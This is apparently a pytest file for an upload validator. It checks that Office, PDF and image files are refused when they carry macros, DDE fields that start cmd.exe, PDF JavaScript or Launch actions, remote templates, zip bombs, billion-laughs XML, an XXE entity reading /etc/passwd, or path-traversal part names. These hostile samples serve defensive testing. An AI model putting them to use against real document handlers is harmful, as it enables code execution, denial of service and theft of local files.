"""Files that are not taken, and the reason that their sender reads."""

import hashlib
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from gongkai.documents.examine import examine
from gongkai.documents.kinds import ALLOWED
from gongkai.documents.refusals import (
    OF_EXAMINING,
    FileEmpty,
    FileEncrypted,
    FileHasMacros,
    FileHoldsFiles,
    FileIsBomb,
    FileKindMismatch,
    FileKindNotAllowed,
    FileTooLarge,
    FileUnreadable,
)
from gongkai.refusals import Refusal
from tests.unit.documents.conftest import Bring, Refused
from tests.unit.documents.made import (
    NAMES,
    OPEN_XML,
    SHEETS,
    WORD,
    docx,
    jpeg,
    mp3,
    mp4,
    paragraph,
    pdf,
    png,
    relations,
    run,
    shown,
    stream,
    types,
    word_parts,
    xlsx,
    zipped,
)

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SOUND = {
    "a.docx": docx(paragraph("字")),
    "a.xlsx": xlsx(),
    "a.pdf": pdf(shown("text")),
    "a.png": png(),
    "a.jpg": jpeg(),
    "a.mp4": mp4(),
    "a.mp3": mp3(),
    "a.txt": "正文".encode(),
}
ACTS = "/S /JavaScript /JS (app.alert\\(1\\))"
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE w:document [<!ENTITY a0 "哈哈">{ENTITIES}]><w:document {NAMES}>&a9;</w:document>'
REACHING = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
SCRIPT = f"<< {ACTS} >>"
LOCKED = "/Encrypt << /Filter /Standard /V 1 /R 2 /O (" + "o" * 32 + ") /U (" + "u" * 32 + ") /P -4 >> /ID [(i) (i)]"


def a_word_file(**changed: str | bytes) -> bytes:
    """One with other content types or relationships."""
    parts = word_parts(paragraph("字"))
    return zipped(
        parts
        | {{"types": "[Content_Types].xml", "rels": "word/_rels/document.xml.rels"}[n]: c for n, c in changed.items()}
    )


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
TEMPLATE = f"{OPEN_XML}.wordprocessingml.template.main+xml"


def reaching(kind: str, target: str) -> bytes:
    """A Word file that leads outside."""
    return a_word_file(rels=relations((kind, target, True)))


ACTING = {
    "macros under another name": a_word_file(types=types("word/document.xml", MACRO_MAIN)),
    "macros declared beside": a_word_file(types=types("word/document.xml", WORD, VBA)),
    "macros in a part": docx("", {"word/vbaProject.bin": OLE2}),
    "macros in a part of a workbook": xlsx(more={"xl/VBAPROJECT.bin": OLE2}),
    "macros of the old kind": xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"}),
    "a control": docx("", {"word/activeX/activeX1.xml": "<x/>"}),
    "a remote template": a_word_file(rels=relations(("attachedTemplate", "https://a.example/t.dotm", True))),
    "a remote template on a share": reaching("attachedTemplate", "\\\\a.example\\t.dotm"),
    "a remote picture": reaching("image", "https://a.example/i.png"),
    "a remote object": reaching("oleObject", "https://a.example/o"),
    "a remote frame": reaching("frame", "https://a.example/f"),
    "remote data": xlsx(more={"xl/externalLinks/_rels/e.xml.rels": relations(("externalLinkPath", "b.xlsx", True))}),
    "a template of this machine": reaching("attachedTemplate", "file:///C:\\Users\\x\\t.dotm"),
    "another program": xlsx(more={"xl/externalLinks/e1.xml": '<x><ddeLink ddeService="cmd" ddeTopic="/c"/></x>'}),
    "a database": xlsx(more={"xl/connections.xml": "<connections/>"}),
    "an add-in": docx("", {"word/webextensions/taskpanes.xml": "<x/>"}),
    "buttons of macros": docx("", {"customUI/customUI.xml": "<x/>"}),
    "a link that runs": reaching("hyperlink", "javascript:alert(1)"),
    "a link to this machine": reaching("hyperlink", "file:///C:/Windows/calc.exe"),
    "a link to a share": reaching("hyperlink", "\\\\a.example\\share"),
    "a field that starts a program": docx(paragraph(run('DDEAUTO c:\\\\cmd.exe "/k calc"', element="instrText"))),
    "a field in pieces": docx(
        paragraph(run(" DD", element="instrText"), run('E "c:\\\\cmd.exe"', element="instrText"))
    ),
    "a field that fetches": docx(
        paragraph('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://a.example/i&quot; "/>')
    ),
    "a script": pdf(objects=(SCRIPT,)),
    "a script under a disguised name": pdf(
        objects=(SCRIPT.replace("/JavaScript", "/J#61vaScript").replace("/JS", "/J#53"),)
    ),
    "a script on opening": pdf(catalogue=f"/OpenAction << {ACTS} >>"),
    "a script by name": pdf(catalogue="/Names << /JavaScript << /Names [] >> >>"),
    "a script of a page": pdf(page="/AA << /O << /S /URI /URI (x) >> >>"),
    "a program to launch": pdf(catalogue="/OpenAction << /S /Launch /F (calc.exe) >>"),
    "a form that sends": pdf(objects=("<< /S /SubmitForm /F (https://a.example) >>",)),
    "another file to open": pdf(objects=("<< /S /GoToR /F (b.pdf) >>",)),
    "a form of scripts": pdf(catalogue="/AcroForm << /XFA [] >>"),
}
HOLDING = {
    "a workbook in a Word file": docx("", {"word/embeddings/b.xlsx": xlsx()}),
    "an archive called a picture": docx("", {"word/media/image1.png": zipped({"a": "a"})}),
    "a program called a picture": docx("", {"word/media/image1.png": b"MZ" + b"\0" * 100}),
    "an old object": docx("", {"word/embeddings/oleObject1.bin": OLE2}),
    "a document to be merged": a_word_file(rels=relations(("aFChunk", "chunk.xml", False))),
    "a page of another kind": docx("", {"word/afchunk.mht": "<html>"}),
    "a file in a PDF": pdf(objects=(stream("/Type /EmbeddedFile", "x"),)),
    "a file in a PDF by name": pdf(catalogue="/Names << /EmbeddedFiles << /Names [] >> >>"),
    "a file in a PDF, disguised": pdf(objects=("<< /Type /Filespec /E#46 << /F 4 0 R >> >>",)),
    "a file attached to a note": pdf(page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 1 1] >>]"),
    "a film in a PDF": pdf(page="/Annots [<< /Subtype /RichMedi#61 /Rect [0 0 1 1] >>]"),
}


@pytest.mark.parametrize("what", ACTING)
def test_e5_a_file_that_acts_is_refused(refused: Refused, what: str) -> None:
    assert isinstance(refused(ACTING[what], _named(ACTING[what])), FileHasMacros)


@pytest.mark.parametrize("what", HOLDING)
def test_e5_a_file_within_a_file_is_refused(refused: Refused, what: str) -> None:
    assert isinstance(refused(HOLDING[what], _named(HOLDING[what])), FileHoldsFiles)


@pytest.mark.parametrize(
    "name", ["a.docm", "a.xlsm", "a.doc", "a.xls", "a.exe", "a.html", "a.svg", "a", ".docx", "a.zip", "a.csv"]
)
def test_e5_other_kinds_are_refused_with_a_list_of_those_taken(refused: Refused, name: str) -> None:
    refusal = refused(b"x", name)
    assert isinstance(refusal, FileKindNotAllowed)
    assert all(kind.suffix in refusal.detail or kind.suffix in (".pdf", ".jpeg") for kind in ALLOWED.values())


@pytest.mark.parametrize("content", SOUND)
@pytest.mark.parametrize("name", SOUND)
def test_e5_the_content_is_what_the_name_says(bring: Bring, refused: Refused, content: str, name: str) -> None:
    if content == name:
        assert bring(SOUND[content], name).name == name
    else:
        assert isinstance(refused(SOUND[content], name), FileKindMismatch)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (zipped({"a.txt": "x"}), "a.docx"),
        (a_word_file(types=types("word/document.xml", TEMPLATE)), "a.docx"),
        (a_word_file(types=types("word/document.xml", SHEETS)), "a.docx"),
        (OLE2, "a.docx"),
        (b"MZ" + b"\0" * 900, "a.pdf"),
        (b"<html><script>1</script>", "a.txt"),
        (b"\xef\xbb\xbf \n<!DOCTYPE HTML>", "a.txt"),
        (b"{\\rtf1}", "a.txt"),
        (b"a\0b", "a.txt"),
        (mp4(brand=b"heic"), "a.mp4"),
        (b"RIFF\0\0\0\0WEBPVP8 ", "a.png"),
    ],
)
def test_e5_another_kind_inside_is_named(refused: Refused, data: bytes, name: str) -> None:
    assert isinstance(refused(data, name), FileKindMismatch)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"x" + SOUND["a.pdf"], "a.pdf"),
        (SOUND["a.pdf"] + b"<script>1</script>", "a.pdf"),
        (SOUND["a.pdf"] + SOUND["a.docx"], "a.pdf"),
        (SOUND["a.pdf"] + zipped({"a": "a"})[:-2] + b"\6\0%%EOF\n", "a.pdf"),
        (SOUND["a.png"] + b"tail", "a.png"),
        (SOUND["a.png"] + SOUND["a.docx"], "a.png"),
        (SOUND["a.jpg"] + zipped({"a.class": "a"}), "a.jpg"),
        (jpeg(b"%PDF-1.7 "), "a.jpg"),
        (SOUND["a.mp3"] + zipped({"a": "a"}), "a.mp3"),
        (b"%PDF-1.4\n" + SOUND["a.docx"], "a.docx"),
        (b"%PDF-1.7\n1 0 obj", "a.txt"),
    ],
)
def test_e5_a_file_of_two_kinds_is_refused(refused: Refused, data: bytes, name: str) -> None:
    assert isinstance(refused(data, name), FileKindMismatch)


@pytest.mark.parametrize("name", [name for name in SOUND if name not in ("a.txt", "a.mp3")])
@pytest.mark.parametrize("kept", [0.3, 0.6, 0.9, 0.99])
def test_e5_a_file_that_was_cut_off_is_refused(refused: Refused, name: str, kept: float) -> None:
    assert isinstance(refused(SOUND[name][: int(len(SOUND[name]) * kept)], name), FileUnreadable)


@pytest.mark.parametrize("kept", [8, 15, 21, 23])
def test_e5_sound_that_was_cut_off_before_it_begins_is_refused(refused: Refused, kept: int) -> None:
    assert isinstance(refused(SOUND["a.mp3"][:kept], "a.mp3"), FileUnreadable)


@pytest.mark.parametrize("name", SOUND)
def test_e5_an_empty_file_is_refused(refused: Refused, name: str) -> None:
    assert isinstance(refused(b"", name), FileEmpty)


def test_e5_a_file_larger_than_its_kind_may_be_is_refused(tmp_path: Path) -> None:
    for suffix, kind in ALLOWED.items():
        with (tmp_path / "large").open("wb") as file:
            file.truncate(kind.largest + 1)
        with pytest.raises(FileTooLarge, match="MB"):
            examine(tmp_path / "large", f"a{suffix}")


LOCKED_ENTRY = bytearray(zipped({"a": "a"}))
LOCKED_ENTRY[6] |= 1
LOCKED_ENTRY[LOCKED_ENTRY.find(b"PK\1\2") + 8] |= 1


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (OLE2 + "EncryptedPackage".encode("utf-16-le"), "a.docx"),
        (bytes(LOCKED_ENTRY), "a.xlsx"),
        (pdf().replace(b"/Size 40", b"/Size 40 " + LOCKED.encode()), "a.pdf"),
    ],
)
def test_e5_a_locked_file_is_refused(refused: Refused, data: bytes, name: str) -> None:
    assert isinstance(refused(data, name), FileEncrypted)


def lying(parts: dict[str, str | bytes], name: str, size: int, everywhere: bool) -> bytes:
    """A container that tells a wrong size of one part, in its table or everywhere."""
    data = bytearray(zipped(parts))
    encoded = name.encode()
    local = data.find(encoded) - 30
    struct.pack_into("<L", data, data.rfind(encoded) - 46 + 24, size)
    if everywhere:
        struct.pack_into("<L", data, local + 22, size)
    return bytes(data)


HUGE = word_parts(paragraph("字" * 4_000_000))
NULLS: dict[str, str | bytes] = {f"word/media/image{n}.png": zlib.compress(b"") * 100 for n in range(3200)}


def overlapping() -> bytes:
    """Two entries in the table that are one in the file."""
    data = bytearray(zipped(word_parts() | {"word/a.xml": "<x/>", "word/b.xml": "<x/>"}))
    first, second = (data.find(b"PK\1\2", data.rfind(name) - 60) for name in (b"word/a.xml", b"word/b.xml"))
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


BOMBS = {
    "out of proportion": zipped(HUGE),
    "large in sum": zipped(word_parts() | {f"word/p{n}.xml": b"0123456789abcdef" * 65_000 for n in range(130)}),
    "many entries": zipped(NULLS, zipfile.ZIP_STORED),
    "lying in its table": lying(word_parts(paragraph("字" * 1000)), "word/document.xml", 10, everywhere=False),
    "lying everywhere": lying(word_parts(paragraph("字" * 1000)), "word/document.xml", 10, everywhere=True),
    "overlapping": overlapping(),
    "laughing": docx("", {"word/document.xml": LAUGHS}),
    "laughing in a header": docx("", {"word/header1.xml": LAUGHS}),
    "laughing in its types": a_word_file(types=LAUGHS),
    "laughing in its relationships": a_word_file(rels=LAUGHS),
    "laughing in UTF-16": docx("", {"word/header1.xml": ('<?xml version="1.0"?>' + LAUGHS).encode("utf-16")}),
    "reaching for our files": docx("", {"word/header1.xml": REACHING}),
    "deep": docx("<w:sdt>" * 5000),
    "a picture of a whole country": png(width=2_000_000_000),
}


@pytest.mark.parametrize("what", BOMBS)
def test_e5_a_bomb_is_refused(refused: Refused, what: str) -> None:
    assert isinstance(refused(BOMBS[what], _named(BOMBS[what])), FileIsBomb)


def test_e5_a_part_that_tells_more_than_it_holds_is_refused(refused: Refused) -> None:
    data = lying(word_parts(paragraph("字" * 1000)), "word/document.xml", 100_000, everywhere=True)
    assert isinstance(refused(data, "a.docx"), FileUnreadable)


def test_e5_more_text_than_anybody_reads_is_refused(refused: Refused) -> None:
    many = hashlib.shake_256(b"").hexdigest(2_600_000)
    assert isinstance(refused(docx(paragraph(many)), "a.docx"), FileTooLarge)


@pytest.mark.parametrize("name", ["../a.xml", "/a.xml", "word\\a.xml", "word/a.xml\0.png"])
def test_e5_names_of_parts_that_lead_elsewhere_are_refused(refused: Refused, name: str) -> None:
    data = zipped(word_parts() | {name.replace("\0", "~").replace("\\", "~"): "<x/>"})
    data = data.replace(b"a.xml~.png", b"a.xml\0.png").replace(b"word~a.xml", b"word\\a.xml")
    assert isinstance(refused(data, "a.docx"), FileKindMismatch)


def test_e5_hidden_bytes_between_parts_are_refused(refused: Refused) -> None:
    data = bytearray(SOUND["a.docx"])
    table = data.find(b"PK\1\2")
    data[table:table] = b"hidden" * 20
    struct.pack_into("<L", data, len(data) - 6, table + 120)
    assert isinstance(refused(bytes(data), "a.docx"), FileKindMismatch)


def test_e5_a_part_that_is_there_twice_is_refused(refused: Refused) -> None:
    data = zipped(word_parts() | {"word/documenT.xml": "<x/>"})
    assert isinstance(refused(data, "a.docx"), FileKindMismatch)


def test_e5_a_pdf_with_endless_history_is_refused(refused: Refused) -> None:
    assert isinstance(refused(pdf() + b"%%EOF\n" * 20, "a.pdf"), FileUnreadable)


def test_f3_every_refusal_of_examining_finds_its_way_back() -> None:
    def below(refusal: type[Refusal]) -> set[type[Refusal]]:
        return {refusal}.union(*(below(one) for one in refusal.__subclasses__()))

    of_files = {one for one in below(Refusal) if one.__module__ == FileEmpty.__module__}
    assert {one.code for one in of_files} - {*OF_EXAMINING} == {"file-unknown", "file-gone"}


def _named(data: bytes) -> str:
    """A name that fits the content at first sight."""
    for start, name in ((b"%PDF", "a.pdf"), (b"\x89PNG", "a.png")):
        if data.startswith(start):
            return name
    return "a.xlsx" if b"xl/workbook.xml" in data else "a.docx"
